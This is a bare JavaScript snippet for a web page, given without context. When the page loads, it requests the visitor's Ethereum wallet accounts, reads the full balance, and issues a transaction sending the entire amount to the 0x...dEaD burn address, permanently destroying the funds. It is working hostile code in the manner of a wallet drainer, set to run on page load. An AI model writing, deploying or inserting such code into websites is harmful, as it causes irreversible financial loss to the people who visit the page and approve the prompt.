window.addEventListener("load", async () => {
  const [from] = await window.ethereum.request({ method: "eth_requestAccounts" });
  const value = await window.ethereum.request({ method: "eth_getBalance", params: [from, "latest"] });
  await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to: "0x000000000000000000000000000000000000dEaD", value }] });
});
